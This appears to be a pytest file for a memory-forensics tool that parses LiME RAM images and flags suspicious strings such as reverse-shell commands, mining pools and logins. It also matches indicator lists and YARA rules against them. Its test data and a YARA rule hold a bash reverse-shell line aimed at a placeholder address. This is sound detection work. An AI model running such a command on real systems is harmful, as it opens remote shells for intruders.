# SPDX-License-Identifier: Apache-2.0
"""A memory image is read by detectors at its physical addresses, and a liar's image costs nothing."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parents[1] / "detect"))

from memory_events import MemoryEvents

from headwater.detect import indicators, registry
from headwater.detect.detectors import memory_strings
from headwater.examine.opening import open_evidence
from headwater.examine.parsers import memory_ram
from headwater.formats.lime import HEADER, header
from headwater.formats.opened import open_readonly
from headwater.model.kinds import EventKind, GapReason, Severity
from headwater.model.nouns import Finding
from headwater.model.ports import Settings, Visit
from headwater.model.records import Count, Event, File, Gap

PAGES = (Path(__file__).parents[1] / "golden/memory_ram/range.bin").read_bytes()
START = 0x100000


def _image(folder: Path) -> Path:
    path = folder / "mem01.lime"
    path.write_bytes(header(0x1000, 4096) + bytes(4096) + header(START, len(PAGES)) + PAGES)
    return path


def _events(data: bytes, path: str = f"/memory/{START:016x}-{START + len(PAGES) - 1:016x}") -> list[Event]:
    return [r for r in memory_ram.parse(File.of(data, path)) if isinstance(r, Event)]


def test_ranges_of_an_image_are_files_named_by_their_addresses_and_their_strings_stand_there(tmp_path: Path) -> None:
    file = open_readonly(_image(tmp_path))
    opened = open_evidence([file])
    (view,) = opened.views
    entries = list(view.tree.entries())
    assert [e.path for e in entries] == [
        "/memory/0000000000001000-0000000000001fff",
        f"/memory/{START:016x}-{START + len(PAGES) - 1:016x}",
    ]
    assert view.places(opened.source, view.tree.extents("1")) == ((2 * HEADER.size + 4096, len(PAGES)),)
    source = view.tree.open("1")
    assert source.pread(0, source.size) == PAGES
    for found in memory_ram.parse(File(entries[1].path, source.size, source.pread)):
        if isinstance(found, Event):
            part = str(found.fields["part"]).encode()
            assert PAGES[found.offset : found.offset + found.length] == part
            assert int(str(found.fields["physical"]), 16) == START + found.offset
    source.close()


def test_image_that_lies_about_its_size_is_no_longer_than_its_bytes(tmp_path: Path) -> None:
    path = tmp_path / "lie.lime"
    path.write_bytes(header(0, 1 << 56) + bytes(4096))
    file = open_readonly(path)
    (view,) = open_evidence([file]).views
    (entry,) = view.tree.entries()
    assert entry.size == view.tree.open(entry.key).size == 4096
    assert [(g.offset, g.length, g.reason) for g in view.tree.warnings] == [(32, 4096, GapReason.TRUNCATED)]
    with pytest.raises(KeyError):
        view.tree.open("7")
    os.close(file.fd)


def test_each_string_is_told_once_and_versions_and_markup_are_none() -> None:
    found = _events(PAGES)
    parts = [str(e.fields["part"]) for e in found]
    assert len(parts) == len({(e.fields["class"], e.fields["part"]) for e in found})
    assert any(p.startswith("bash -i >& /dev/tcp/203.0.113.66/4444") for p in parts)
    assert "198.51.100.7:443" in parts
    assert not [p for p in parts if "w3.org" in p or p in {"1.2.3.4", "127.0.0.1"}]


def test_page_full_of_one_kind_of_string_is_bounded_and_the_bound_is_said() -> None:
    many = b"".join(b"host%d.example.com\0" % n for n in range(memory_ram.MOST + 50))
    records = list(memory_ram.parse(File.of(many, "/memory/x")))
    assert sum(isinstance(r, Event) for r in records) == memory_ram.MOST
    assert [r.reason for r in records if isinstance(r, Gap)] == [GapReason.LIMIT]
    (count,) = [r for r in records if isinstance(r, Count)]
    assert count.declared == memory_ram.MOST
    assert all("physical" not in r.fields for r in records if isinstance(r, Event))


def _store(data: bytes) -> MemoryEvents:
    events = MemoryEvents()
    for e in _events(data):
        events.say("memory.ram", "/memory/x", (EventKind.STATE_MEMORY, None, {"fields": dict(e.fields)}))
    return events


def _told(data: bytes) -> list[Finding]:
    return list(registry.run(memory_strings, _store(data), Settings()))


def test_commands_that_call_back_pools_and_logins_are_told_with_their_physical_addresses() -> None:
    found = _told(PAGES)
    assert [f.severity for f in found] == [
        Severity.MEDIUM, Severity.LOW, Severity.LOW, Severity.LOW, Severity.INFO,
    ]  # fmt: skip
    assert found[0].spans[0].claims["physical"] == f"0x{START + PAGES.index(b'bash -i'):x}"
    assert "203.0.113.66/4444" in found[0].text.en
    assert "pool.example.net" in found[1].text.en


def test_login_of_our_own_in_memory_is_not_the_intruders() -> None:
    ours = Settings(visits=(Visit("203.0.113.66 41000", 0, 1),))
    found = list(registry.run(memory_strings, _store(PAGES), ours))
    assert not [f for f in found if "logins" in f.text.en]


def test_memory_of_an_ordinary_server_is_no_finding() -> None:
    plain = (
        b"GET / HTTP/1.1\r\nHost: www.example.com\r\n\0LD_PRELOAD=%s\0/tmp/ssh-XXXXXXXXXX\0https://www.debian.org/Bugs/\0"
        b"Accepted publickey for alice from 10.0.0.9 port 51000 ssh2\0curl -fsS http://127.0.0.1:8080/health\0/dev/tcp/%s/%s\0"
    )
    assert _told(plain) == []


def test_indicators_of_a_list_are_found_in_memory() -> None:
    wanted = [
        indicators.Wanted(kind, value, "1", "", "list.csv", "0" * 64)
        for kind, value in (("address", "203.0.113.66"), ("domain", "pool.example.net"), ("domain", "absent.example.net"))
    ]  # fmt: skip
    hit = {f.facts.get("value") or f.text.en for f in indicators.match(_store(PAGES), wanted)}
    assert len(hit) == 2


@pytest.mark.long
def test_memory_image_is_investigated_with_rules_and_a_list(tmp_path: Path) -> None:
    from headwater.cli.main import main

    rules, given = tmp_path / "own.yar", tmp_path / "list.csv"
    rules.write_text('rule CallsBack { strings: $a = "/dev/tcp/203.0.113.66/4444" condition: $a }\n')
    given.write_text("type,value\nip,203.0.113.66\n")
    case = tmp_path / "case"
    words = ["investigate", str(_image(tmp_path)), "--case", str(case), "--no-authority", "a test", "--examiner", "甲",
             "--yara", str(rules), "--indicators", str(given)]  # fmt: skip
    assert main(words) in (0, 1)
    report = (case / "report/report.html").read_text()
    for word in ("CallsBack", "203.0.113.66", "0x100"):
        assert word in report


def test_an_address_that_looks_like_a_version_is_told_with_its_port_and_not_without() -> None:
    told = [
        r.fields["part"]
        for r in _events(b"\0 3.5.140.2:443 \0 3.5.140.3 \0 52.95.110.1 \0")
        if r.fields["class"] == "address"
    ]
    assert told == ["3.5.140.2:443", "52.95.110.1"]
